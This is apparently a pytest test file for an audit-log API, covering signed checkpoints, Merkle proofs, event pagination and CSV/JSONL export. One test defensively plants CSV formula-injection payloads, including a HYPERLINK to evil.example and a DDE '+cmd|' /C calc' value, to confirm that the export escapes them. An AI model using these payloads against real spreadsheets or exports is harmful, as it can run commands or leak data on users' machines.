"""The /v1/audit routes: checkpoints, events, proofs, export, key; audit reads are audited.

The router is mounted on a bare app here so these tests stay about the audit API; the hub's
authorisation (issue 3) wraps the same router in the real app.
"""

from __future__ import annotations

import base64
import csv
import io
import json
from collections.abc import Iterator

import pytest
from fastapi import FastAPI, Request
from fastapi.responses import JSONResponse
from fastapi.testclient import TestClient

from hub.api.audit import router
from hub.audit import AuditEvent, append_event, merkle, notes
from hub.audit.verify import verify_export
from hub.errors import HubError
from hub.services import Hub
from tests.audit.conftest import append_many


@pytest.fixture
def client(ledger: Hub) -> Iterator[TestClient]:
    app = FastAPI()
    app.state.hub = ledger
    app.include_router(router)

    @app.exception_handler(HubError)
    async def _error(_request: Request, error: HubError) -> JSONResponse:
        return JSONResponse(error.to_body(), status_code=error.status_code)

    append_many(ledger.engine, 30)
    with TestClient(app) as test_client:
        yield test_client


def _key(client: TestClient) -> tuple[str, notes.Ed25519PublicKey]:
    return notes.parse_verifier_key(client.get("/v1/audit/key").json()["verifier_key"])


def test_checkpoint_as_a_signed_note_and_as_json(client: TestClient) -> None:
    response = client.get("/v1/audit/checkpoint")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/plain")
    name, key = _key(client)
    assert name == "vru-hub.example/audit"
    checkpoint = notes.open_checkpoint(response.text, name, key)
    assert checkpoint.size == 30
    as_json = client.get("/v1/audit/checkpoint", params={"format": "json"}).json()
    assert as_json["size"] == 30 and as_json["note"] == response.text
    assert base64.b64decode(as_json["root"]) == checkpoint.root


def test_proofs_verify_against_the_checkpoint(client: TestClient) -> None:
    name, key = _key(client)
    checkpoint = notes.open_checkpoint(client.get("/v1/audit/checkpoint").text, name, key)
    for index in (0, 7, 29):
        body = client.get("/v1/audit/proof/inclusion", params={"index": index, "size": 30}).json()
        merkle.verify_inclusion(
            index,
            30,
            base64.b64decode(body["leaf_hash"]),
            [base64.b64decode(p) for p in body["proof"]],
            checkpoint.root,
        )
    body = client.get("/v1/audit/proof/consistency", params={"first": 11, "second": 30}).json()
    merkle.verify_consistency(
        11,
        30,
        base64.b64decode(body["first_root"]),
        checkpoint.root,
        [base64.b64decode(p) for p in body["proof"]],
    )


@pytest.mark.parametrize(
    ("path", "params", "status", "code"),
    [
        ("inclusion", {"index": 30, "size": 30}, 400, "index_out_of_range"),
        ("inclusion", {"index": 31, "size": 30}, 400, "index_out_of_range"),
        ("inclusion", {"index": 0, "size": 0}, 400, "invalid_size"),
        ("inclusion", {"index": 0, "size": 500}, 400, "size_beyond_tree"),
        ("inclusion", {"index": -1, "size": 5}, 422, "invalid_request"),
        ("consistency", {"first": 9, "second": 3}, 400, "first_after_second"),
        ("consistency", {"first": 0, "second": 3}, 400, "invalid_size"),
        ("consistency", {"first": 0, "second": 0}, 400, "invalid_size"),
        ("consistency", {"first": 3, "second": 500}, 400, "size_beyond_tree"),
        ("consistency", {"first": "x", "second": 3}, 422, None),
        # beyond any 64-bit database integer: refused, never an overflow
        ("inclusion", {"index": 10**25, "size": 5}, 422, None),
        ("consistency", {"first": 1, "second": 10**25}, 422, None),
    ],
)
def test_bad_proof_requests_get_a_clear_4xx(
    client: TestClient, path: str, params: dict[str, object], status: int, code: str | None
) -> None:
    response = client.get(f"/v1/audit/proof/{path}", params=params)
    assert response.status_code == status
    if status == 400:
        error = response.json()["error"]
        assert error["code"] == code and error["message"]


def test_events_are_filtered_and_paginated(
    client: TestClient,
) -> None:
    seen: list[int] = []
    cursor = None
    while True:
        params: dict[str, object] = {"limit": 7, "actor": "client-1"}
        if cursor is not None:
            params["cursor"] = cursor
        page = client.get("/v1/audit/events", params=params).json()
        seen += [e["index"] for e in page["events"]]
        assert all(e["actor"] == "client-1" for e in page["events"])
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert seen == [i for i in range(30) if i % 4 == 1]
    denied = client.get("/v1/audit/events", params={"decision": "deny", "limit": 1000}).json()
    assert [e["index"] for e in denied["events"]] == [0, 5, 10, 15, 20, 25]
    window = client.get(
        "/v1/audit/events",
        params={"since": "2026-03-01T09:35:00Z", "until": "2026-03-01T09:40:00+00:00"},
    ).json()
    assert [e["index"] for e in window["events"]] == [5, 6, 7, 8, 9]
    bad = client.get("/v1/audit/events", params={"limit": 5000})
    assert client.get("/v1/audit/events", params={"cursor": 10**25}).status_code == 422
    assert bad.status_code == 422


def test_export_streams_jsonl_that_verifies_offline_and_csv(client: TestClient) -> None:
    note = client.get("/v1/audit/checkpoint").text
    exported = client.get("/v1/audit/export", params={"format": "jsonl"})
    assert exported.headers["content-type"].startswith("application/x-ndjson")
    lines = exported.text.splitlines(keepends=True)
    assert len(lines) == 30  # reads are recorded by authorize() in the real app (tests/auth)
    name, key = _key(client)
    assert verify_export(lines, note, name, key).size == 30
    table = list(csv.DictReader(io.StringIO(client.get("/v1/audit/export?format=csv").text)))
    assert [int(r["index"]) for r in table] == list(range(len(table)))
    assert table[1]["epsilon"] == "0.1" and table[1]["action"] == "query.release"
    assert client.get("/v1/audit/export", params={"format": "xml"}).status_code == 422


def test_csv_export_shows_caller_text_that_looks_like_a_formula_as_text(
    client: TestClient, ledger: Hub
) -> None:
    # Text in an event can come from a caller (a request id, a denial's reason); IG leads
    # open this export in a spreadsheet, which would run =HYPERLINK(...) as a formula.
    hostile = '=HYPERLINK("http://evil.example/?x","Click")'
    with ledger.engine.begin() as connection:
        append_event(
            connection,
            AuditEvent(
                action="budget.read",
                decision="deny",
                reason=hostile,
                request_id="+cmd|' /C calc'!A0",
                resource="-1+1",
                actor="@SUM(A1)",
            ),
        )
    table = list(csv.DictReader(io.StringIO(client.get("/v1/audit/export?format=csv").text)))
    last = table[-1]
    assert last["reason"] == "'" + hostile
    assert last["request_id"] == "'+cmd|' /C calc'!A0"
    assert last["resource"] == "'-1+1" and last["actor"] == "'@SUM(A1)"
    risky = ("=", "+", "-", "@", "\t", "\r")
    assert not any(cell.startswith(risky) for row in table for cell in row.values())
    # the JSON Lines export keeps what was stored, which is what the ledger's hashes cover
    exported = client.get("/v1/audit/export", params={"format": "jsonl"}).text.splitlines()
    assert json.loads(exported[-1])["reason"] == hostile
